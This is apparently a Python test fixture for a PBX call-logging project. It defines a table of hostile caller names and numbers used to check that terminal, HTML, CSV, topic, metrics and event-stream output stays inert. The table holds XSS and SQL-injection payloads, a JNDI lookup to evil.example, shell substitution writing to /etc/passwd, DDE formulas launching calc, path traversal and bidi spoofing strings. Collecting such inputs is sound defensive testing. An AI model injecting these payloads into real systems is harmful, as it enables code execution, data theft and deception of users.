"""What hostile callers write where a name or a number belongs: one table for every surface on which it may come out.

Whoever adds a surface asks it with all of them; whoever learns of a new trick adds it here.
"""

import csv
import io
import re
import unicodedata

import pytest

LONG = 65_536

HOSTILE: dict[str, str] = {
    # a terminal
    "ansi-colour": "\x1b[31mred\x1b[0m",
    "ansi-clear": "\x1b[2J\x1b[H\x1bc",
    "osc-title-and-link": "\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "c1-controls": "\x9b31m\x07\r\n\x9d0;owned\x9c\x85",
    "every-control": "".join(map(chr, range(32))) + "\x7f",
    "line-ends": "a\r\nevent=forged level=error\n\x0b\x0c\x1c\x1d\x1eb",
    "unicode-line-ends": "a\u2028b\u2029c",
    "nul": "before\x00behind",
    "rich-markup": "[red]rich[/red] [link=http://evil.example]x[/link] [/] [bold]",
    # who reads it
    "bidi-override": "\u202egnp.exe\u202d",
    "bidi-isolates": "\u2066a\u2067b\u2068c\u2069\u2069\u200e\u200f\u061c",
    "right-to-left": "שלום (1) 42",
    "arabic": "مرحبا 12-34",
    "zero-width": "Ан\u200bна\u200c\u200d\u2060\ufeff\u00ad",
    "invisible-letters": "\u3164\u115f\u1160\uffa0\u2800\u034f",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "combining": "Z" + "\u0335\u0336\u0489" * 20,
    "emoji": "👨\u200d👩\u200d👧 🏳\ufe0f 🇷🇺",
    "wide": "漢字" * 40,
    # an encoding
    "lone-surrogate": "\ud800x\udc00",
    "no-characters": "\ufffe\uffff\U0010ffff\ufffd",
    # HTML
    "script": "</script><script>alert(1)</script>",
    "script-in-title": "</title></style></textarea><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><iframe srcdoc='<script>alert(1)</script>'>",
    "attribute": '" onload="alert(1)" x="',
    "attribute-in-single-quotes": "' onmouseover='alert(1)",
    "comment": "--><!-- ]]> <![CDATA[",
    "entity": "&lt;b&gt; &#60;b&#62; &amp;amp;",
    "script-address": "javascript:alert(1)",
    "style": "<style>*{display:none}</style>",
    "form": '<form action="http://evil.example"><base href="http://evil.example/"><meta http-equiv=refresh content=0>',
    # templates and formats
    "template": "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "percent-format": "%s %n %d %(name)s %x%x%x",
    "brace-format": "{} {0} {0.__class__} {name!r}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "shell": "$(id) `id` ; id | id && id > /etc/passwd",
    "backslashes": "\\ \\\\ \\n \\x1b \\u202e \\N{BELL}",
    # SQL
    "drop-table": "'; DROP TABLE call; --",
    "or-true": "' OR '1'='1",
    "like": "%_%' ESCAPE '\\",
    # spreadsheets
    "hyperlink": '=HYPERLINK("http://evil.example","click")',
    "dde": "+1+cmd|' /C calc'!A0",
    "dde-without-a-number": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "blanks": " \u00a0=1+1",
    "behind-a-semicolon": "x;=1+1",
    "behind-a-comma": "x,=1+1,y",
    "full-width": "＝1+1",
    "quotes": '"quoted", and "more";"',
    "cell-of-a-sheet": "internal:'x'!A1",
    "address": "http://evil.example",
    "escape-of-xlsx": "_x001B_[31m_x0000_",
    # topics, labels, frames
    "topic-levels": "a/b/#",
    "topic-of-all": "#",
    "topic-of-one-level": "+",
    "topic-of-the-broker": "$SYS/broker",
    "label": 'x"} 1\nforged_total{a="b"} 1\n# EOF\n\\',
    "frame": "x\n\nevent: event/call\r\ndata: forged\r\n\r\nid: 1\nretry: 1\n\n",
    "json": '","caller":"forged","x":"\\',
    "path": "../../etc/passwd",
    # words of ours and the PBX's
    "no-name": "<unknown>",
    "other": "other",
    "result": "answered",
    "empty": "",
    "blank": " ",
    "number-for-a-name": "+7 900 111-22-33",
    # lengths
    "long": "x" * LONG,
    "long-line-of-script": "<script>" * (LONG // 8),
    "long-and-wide": "Щ" * LONG,
    "long-right-to-left": "ש" * LONG,
}

hostile_texts = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)

FIRST_STRONG_ISOLATE, POP_ISOLATE = "\u2068", "\u2069"
_ISOLATED = re.compile("\u2068([^\u2068\u2069]*)\u2069")
_INVISIBLE = re.compile("[\u034f\u115f\u1160\u2800\u3164\uffa0]")
_RIGHT_TO_LEFT = frozenset({"R", "AL"})


def is_inert(line: str) -> bool:
    """Can a line be shown on a terminal: nothing in it is obeyed, hidden, or turns what stands beside it?

    What is written from right to left is isolated, and its isolation ends before the line does.
    """
    rest = _ISOLATED.sub("", line)
    shown = _ISOLATED.sub(r"\1", line)
    return shown.isprintable() and not _INVISIBLE.search(shown) and not is_right_to_left(rest)


def is_right_to_left(text: str) -> bool:
    """Are there letters in it that are written from right to left?"""
    return any(character.isprintable() and unicodedata.bidirectional(character) in _RIGHT_TO_LEFT for character in text)


def csv_rows(text: str, delimiter: str = ",") -> list[list[str]]:
    """The cells of a CSV file, however long one is. The limit is the whole process's, so it is put back."""
    before = csv.field_size_limit(10_000_000)
    try:
        return list(csv.reader(io.StringIO(text), delimiter=delimiter))
    finally:
        csv.field_size_limit(before)
